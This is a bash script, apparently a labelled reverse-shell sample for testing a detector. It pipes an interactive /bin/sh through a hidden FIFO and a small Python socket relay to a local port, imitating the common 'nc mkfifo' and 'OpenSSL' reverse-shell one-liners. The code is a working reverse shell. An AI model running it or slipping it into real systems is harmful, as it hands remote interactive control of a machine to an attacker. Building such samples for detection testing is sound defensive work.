#!/bin/bash
# family: reverse-shell
# needs: listener
# actors: sh
# (the orchestrating bash, cat, the relay and the commands the attacker runs are bystanders: only the shell, which
# reads its commands through a FIFO and a pipe, acts; the relay is a few lines of Python, as nc or openssl would be)
# Relay reverse shell, revshells.com's "nc mkfifo" and "OpenSSL" spellings: the socket is the relay's, never the shell's.
RANDOM=$PG_SEED
f="$TMPDIR/.${RANDOM}f"
mkfifo "$f"
relay='import socket,sys,os,threading
s=socket.create_connection(("127.0.0.1",int(sys.argv[1])))
def up():
    while True:
        d=os.read(0,4096)
        if not d: break
        s.sendall(d)
    s.shutdown(socket.SHUT_WR)
threading.Thread(target=up,daemon=True).start()
while True:
    d=s.recv(4096)
    if not d: break
    os.write(1,d)'
if [ $((RANDOM % 2)) -eq 0 ]; then
  cat "$f" | /bin/sh -i 2>&1 | python3 -c "$relay" "$PG_PORT" > "$f"
else
  /bin/sh -i < "$f" 2>&1 | python3 -c "$relay" "$PG_PORT" > "$f"
fi
rm -f "$f"
exit 0
